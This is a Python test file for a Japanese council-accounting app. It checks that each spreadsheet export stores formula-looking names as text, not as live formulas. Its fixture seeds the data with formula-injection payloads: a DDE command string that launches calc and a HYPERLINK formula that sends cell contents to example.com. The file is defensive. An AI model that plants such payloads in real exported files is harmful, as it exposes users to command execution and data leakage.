"""Every spreadsheet export kind as registered (出納簿, 予算と実績, 構成団体, 自治会長名簿, the
city's table of all councils, and any added later) writes text that starts like a formula —
a council, organisation, person, 摘要, 支払先, 費目, programme or 事業 name such as
``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``+…``, ``-…``, ``@…`` — as text: no cell of the
.xlsx is a formula. Names are set in the file directly, as a handover package could carry them."""

from __future__ import annotations

import json
import re
import sqlite3
import zipfile

import pytest

from kyodo_desktop.io.registry import export_kinds
from kyodo_desktop.services.city import city_file, seal
from kyodo_desktop.services.city.return_reader import verify_bytes
from kyodo_desktop.store import open_store

FORMULAS = ('=HYPERLINK("http://example.com/?d="&A1,"詳細")', "=cmd|' /C calc'!A0", "+1+2",
            "-3+4", "@SUM(1,2)")
NAMED = [("councils", "name", ""), ("member_organizations", "name", ""), ("people", "name", ""),
         ("cash_book_entries", "description", " WHERE fiscal_year = 2026"),
         ("cash_book_entries", "payee", " WHERE fiscal_year = 2026"),
         ("income_categories", "name", ""), ("expense_categories", "name", ""),
         ("grant_programs", "name", ""), ("projects", "name", "")]
SPREADSHEETS = {name: kind for name, kind in export_kinds().items() if name != "annual-return"}


def _formula_cells(path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                         if name.startswith("xl/worksheets/"))
    return re.findall(r"<f[ >].*?</f>|<f/>", sheets)


@pytest.fixture
def hostile_names(demo_path):
    conn = sqlite3.connect(demo_path)
    try:
        for table, column, where in NAMED:
            for number, formula in enumerate(FORMULAS):
                conn.execute(f'UPDATE "{table}" SET "{column}" = ? || "{column}" '
                             f"{where}{' AND' if where else ' WHERE'} rowid % 5 = ?",
                             (formula, number))
        conn.commit()
    finally:
        conn.close()
    return demo_path


def _city_file_with(tmp_path, yuda_return):
    """A city file holding 湯田's return re-labelled with formula names."""
    document = json.loads(yuda_return)
    head = document.pop("seal")["audit_head"]
    document["manifest"]["council"] = document["content"]["profile"]["name"] = FORMULAS[1]
    data = seal.sealed(document, head)
    store = open_store(tmp_path / "city.sqlite3")
    city_file.make_city_file(store)
    city_file.import_return(store, verify_bytes(data, "x.kyodo-return"), new_district=True)
    return store


@pytest.mark.parametrize("name", SPREADSHEETS)
def test_no_cell_is_a_formula(hostile_names, tmp_path, yuda_return, name):
    kind = SPREADSHEETS[name]
    out = tmp_path / f"{name}.xlsx"
    if kind.scope == "city":
        with _city_file_with(tmp_path, yuda_return) as store:
            kind.run(store, None, 2025, out, options={})
    else:
        with open_store(hostile_names) as store:
            council = store.scalar("SELECT id FROM councils WHERE name LIKE '%湯田地域%'")
            kind.run(store, council, 2026, out, options={})
    assert _formula_cells(out) == []
    with zipfile.ZipFile(out) as archive:
        text = "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                       if n.endswith(".xml"))
    assert "cmd|" in text  # the hostile text is there, as text
